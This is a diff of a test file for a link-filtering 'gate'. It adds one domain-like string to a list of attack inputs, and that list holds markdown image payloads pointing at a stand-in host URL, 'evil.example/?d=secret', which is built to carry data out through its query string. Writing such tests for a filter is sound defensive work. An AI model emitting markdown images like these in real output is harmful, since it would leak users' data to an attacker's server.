@@ -103,6 +103,7 @@ describe("the gate", () => {
 
 const SECRET = "https://evil.example/?d=secret";
 const ATTACKS = [
+  "evil.rs/x and evil.sh, 0.RS",
   `![x](${SECRET})`,
   `![x](<${SECRET}>)`,
   `![x][y]\n\n[y]: ${SECRET}`,
